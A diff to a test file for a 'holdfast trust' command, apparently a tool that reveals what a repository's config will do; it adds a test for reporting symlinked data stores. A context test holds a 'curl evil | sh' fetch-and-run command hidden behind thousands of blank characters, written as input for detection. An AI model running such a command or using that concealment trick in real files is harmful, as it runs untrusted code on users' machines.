@@ -108,6 +108,16 @@ describe('holdfast trust', () => {
     assert.equal((await trust('--quiet')).stdout, '')
   })
 
+  test('says where data goes by a link', async () => {
+    mkdirSync(clone.path('outside'))
+    symlinkSync('../outside', clone.path('repo/data'))
+    clone.write('repo/.holdfast.yaml', 'store: sqlite:data/x.db\n')
+    const real = clone.path('outside/x.db')
+    const goes = `  Data goes to sqlite:${clone.path('repo/data/x.db')}, which is a link to ${real}`
+    assert.ok((await trust()).stdout.includes(`${goes}.\n`))
+    assert.equal((await json()).data.file, real)
+  })
+
   test('hides no part of a command behind blanks or line breaks', async () => {
     const wide = `mail=echo hi${' '.repeat(20_000)}; curl evil | sh${'\u00a0'.repeat(20_000)}`
     const command = JSON.stringify(`mail=echo hi\n\n# curl evil`)
